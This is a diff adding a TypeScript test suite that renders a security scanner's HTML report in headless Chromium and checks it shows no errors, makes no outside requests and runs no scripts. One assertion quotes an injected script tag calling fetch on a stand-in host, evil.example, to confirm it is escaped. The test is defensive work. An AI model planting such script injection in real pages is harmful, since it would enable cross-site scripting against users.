@@ -1,0 +1,61 @@
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+// The same rendering code as `npm run screenshot:report`.
+import { CHROMIUM, renderReport, repoRoot, writeHtmlReport } from '../../scripts/report-browser.mjs';
+
+/**
+ * The assessor opens the HTML report on an offline machine and prints it:
+ * in a real browser (Debian's Chromium, installed by
+ * scripts/ensure-chromium.sh), it must render without errors and without a
+ * single request leaving the page.
+ */
+describe('HTML report in headless Chromium', () => {
+  let result: Awaited<ReturnType<typeof renderReport>>;
+  // A scratch screenshot: the committed docs/report-screenshot.png is only
+  // rewritten by `npm run screenshot:report`, so a test run leaves the tree clean.
+  let screenshot: string;
+
+  beforeAll(async () => {
+    if (!fs.existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: run scripts/ensure-chromium.sh`);
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'popdb-browser-'));
+    const out = path.join(dir, 'report.html');
+    screenshot = path.join(dir, 'report.png');
+    writeHtmlReport(path.join(repoRoot, 'test/fixtures/html-report'), out);
+    result = await renderReport(out, { screenshot });
+  });
+
+  it('renders with no console or page error', () => {
+    expect(result.consoleErrors).toEqual([]);
+  });
+
+  it('makes no request outside the page (only about: and data: would be allowed)', () => {
+    expect(result.blockedRequests).toEqual([]);
+  });
+
+  it('runs no script, even the one written in the scanned code', () => {
+    expect(result.scripts).toBe(0);
+    expect(result.text).toContain(`const banner = "<script>fetch('https://evil.example/x')</script>";`);
+  });
+
+  it('shows the system, the summary, findings, suppressions, inventory, approval diff and rules sections', () => {
+    expect(result.title).toBe('popdb-guard · Hệ thống thông tin giải quyết TTHC tỉnh Bình Định');
+    expect(result.sections).toEqual(['summary', 'findings', 'suppressions', 'inventory', 'approval-diff', 'rules']);
+    expect(result.headings[0]).toBe('Hệ thống thông tin giải quyết TTHC tỉnh Bình Định');
+    expect(result.findings).toBeGreaterThan(0);
+    expect(result.text).toContain('Not computed by this scan.');
+  });
+
+  it('takes a full-page screenshot (what npm run screenshot:report saves for the docs)', () => {
+    const png = fs.readFileSync(screenshot);
+    expect(png.subarray(1, 4).toString('latin1')).toBe('PNG');
+  });
+
+  it('would notice a page that loads something or logs an error (the checks above can fail)', async () => {
+    const leaky = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'popdb-browser-')), 'leaky.html');
+    fs.writeFileSync(leaky, '<!DOCTYPE html><html><head><link rel="stylesheet" href="https://cdn.example.net/report.css"></head><body><script>console.error("boom")</script></body></html>');
+    const leak = await renderReport(leaky);
+    expect(leak.blockedRequests).toEqual(['https://cdn.example.net/report.css']);
+    expect(leak.consoleErrors.some((e) => e.includes('boom'))).toBe(true);
+  });
+});
